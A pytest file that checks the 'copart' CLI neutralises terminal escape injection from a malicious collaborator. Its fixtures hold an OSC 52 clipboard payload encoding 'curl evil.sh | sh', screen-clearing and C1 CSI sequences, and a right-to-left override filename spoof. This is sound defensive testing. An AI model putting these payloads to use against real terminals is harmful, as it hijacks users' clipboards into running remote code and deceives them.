"""Text is text: what a partner writes never drives the victim's terminal.

A partner pushes titles, bodies, a profile name and a community name holding terminal
escapes (OSC 52 writes the clipboard, CSI 2J clears the screen, the 8-bit CSI does the same
on some terminals) and a right-to-left override that makes a line read backwards. The victim
syncs, then reads with the usual commands, piped and on a terminal (a pty, COLUMNS wide).
Human output shows each control character as a visible symbol; JSON escapes it as JSON does.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys

import pytest

from tests.conftest import World
from tests.synckit import join, start_hub

# name: (what the partner writes, in YAML double-quote escapes; the raw sequence; what the victim sees instead)
PAYLOADS = {
    "clipboard": ("\\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\a", "\x1b]52", "␛]52"),
    "clear-screen": ("\\e[2J\\e[H", "\x1b[2J", "␛[2J"),
    "c1-csi": ("\\x9b2J", "\x9b", "\\x9b"),
    "bidi-override": ("\\u202Egnp.exe", "\u202e", "\\u202e"),
}
DECODED = {"clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", "clear-screen": "\x1b[2J\x1b[H",
           "c1-csi": "\x9b2J", "bidi-override": "\u202egnp.exe"}


def _story(name: str, escaped: str, raw: str) -> str:
    return (f'---\nid: trap-{name}\nkind: story\ntitle: "Trap {escaped} cashflow"\nauthor: mallory\n'
            f"created: 2026-01-05T10:00:00Z\ntopics: [cashflow]\n---\nThe body {raw} cashflow trap.\n")


@pytest.fixture(scope="module")
def victim(tmp_path_factory):
    world = World(tmp_path_factory.mktemp("terminal"))
    mallory, bob = world.partner("alice"), world.partner("bob")
    rep_a, hub = start_hub(world, mallory)
    rep_b = join(bob, hub)
    escapes = "".join(e for e, _, _ in PAYLOADS.values())
    for name, (escaped, _, _) in PAYLOADS.items():
        (rep_a / "stories" / f"trap-{name}.md").write_text(_story(name, escaped, DECODED[name]), encoding="utf-8")
    (rep_a / "members" / "mallory.md").write_text(
        f'---\nid: mallory\nkind: member\ntitle: Mallory\nname: "Mal {escapes} lory"\nauthor: mallory\n'
        "created: 2026-01-05T10:00:00Z\nexpertise: [cashflow]\n---\nCashflow, cashflow.\n", encoding="utf-8")
    config = rep_a / "copart.yaml"
    config.write_text(config.read_text().replace("name: 4XP", f'name: "4XP {escapes}"', 1))
    assert escapes in config.read_text()
    mallory.git("add", "-A", cwd=rep_a)
    mallory.git("commit", "-q", "-m", "pretty titles", cwd=rep_a)
    mallory.git("push", "-q", "origin", "main", cwd=rep_a)
    assert bob.copart("sync", cwd=rep_b).ok
    return bob, rep_b


def _on_a_terminal(partner, rep, *args) -> str:
    """What the command writes to a terminal: stdout is a pty, COLUMNS wide."""
    leader, follower = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "copart_cli", *args], cwd=rep, stdout=follower,
                            stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
                            env={**partner.env, "TERM": "xterm-256color", "COLUMNS": "200"})
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the command ended and closed its end
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    return b"".join(chunks).decode("utf-8", "replace") + err.decode("utf-8", "replace")


HUMAN = [
    ("list",), ("show", "trap-{name}"), ("ask", "cashflow trap"), ("search", "cashflow"), ("who", "cashflow"),
    ("who", "@mallory"), ("digest", "--since", "10y"), ("stats",),
]


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("args", HUMAN, ids=" ".join)
def test_escapes_from_partners_are_shown_not_run_when_piped(victim, args, name):
    bob, rep = victim
    _, raw, shown = PAYLOADS[name]
    r = bob.copart(*(a.format(name=name) for a in args), cwd=rep)
    assert r.ok, r
    out = r.stdout + r.stderr
    assert raw not in out and shown in out, r


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("args", [("list",), ("show", "trap-{name}"), ("who", "@mallory"), ("stats",)], ids=" ".join)
def test_escapes_from_partners_are_shown_not_run_on_a_terminal(victim, args, name):
    bob, rep = victim
    _, raw, shown = PAYLOADS[name]
    out = _on_a_terminal(bob, rep, *(a.format(name=name) for a in args))
    assert raw not in out and shown in out, out


@pytest.mark.parametrize("args", [("list", "--json"), ("show", "trap-{name}", "--json"), ("who", "@mallory", "--json")],
                         ids=" ".join)
@pytest.mark.parametrize("name", PAYLOADS)
def test_json_escapes_control_characters_and_keeps_the_text(victim, args, name):
    bob, rep = victim
    _, raw, _ = PAYLOADS[name]
    r = bob.copart(*(a.format(name=name) for a in args), cwd=rep)
    assert r.ok and raw not in r.stdout, r
    data = json.loads(r.stdout)  # still valid JSON, and the text itself is kept exactly
    assert any(DECODED[name] in text for text in _strings(data))


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


@pytest.mark.parametrize("name", PAYLOADS)
def test_error_lines_show_escapes_not_run_them(alice, sample, name):
    # a review policy that copart cannot read stops every command with an error line quoting it
    config = sample / "copart.yaml"
    escaped, raw, shown = PAYLOADS[name]
    config.write_text(config.read_text().replace("review: open", f'review: "open{escaped}"'))
    r = alice.copart("stats", cwd=sample)
    assert r.code == 1 and r.stderr.startswith("copart: error: ") and raw not in r.stderr and shown in r.stderr, r
    # and an id typed (or pasted) on the command line comes back as text too
    r = alice.copart("show", f"x{DECODED[name]}", cwd=sample)
    assert r.code != 0 and raw not in r.stderr and shown in r.stderr, r


def test_a_review_comment_reaches_git_log_without_its_escapes(world):
    from tests.review_helpers import community

    c = community(world, hub=False)
    judith, rep = c.judith, c.coord_rep
    r = judith.copart("new", "story", "Stall pricing", "--no-edit", "--body", "What I charge.", cwd=rep)
    assert r.ok, r
    key = "jfawcett/stall-pricing"
    comment = "Good\x1b]52;c;Y3VybCBldmlsLnNo\x07 \x1b[2J point\u202e, line two\r\nand three"
    assert judith.copart("review", "comment", key, comment, cwd=rep).ok
    logged = judith.git("log", "--format=%B", f"refs/copart/reviews/{key}", cwd=rep)
    assert "\x1b" not in logged and "\x07" not in logged and "\u202e" not in logged and "\r" not in logged
    assert "Good]52;c;Y3VybCBldmlsLnNo [2J point, line two\nand three" in logged  # the words are kept
    thread = judith.copart("review", "show", key, "--json", cwd=rep).json()["events"]
    assert thread[-1]["text"].startswith("Good]52")
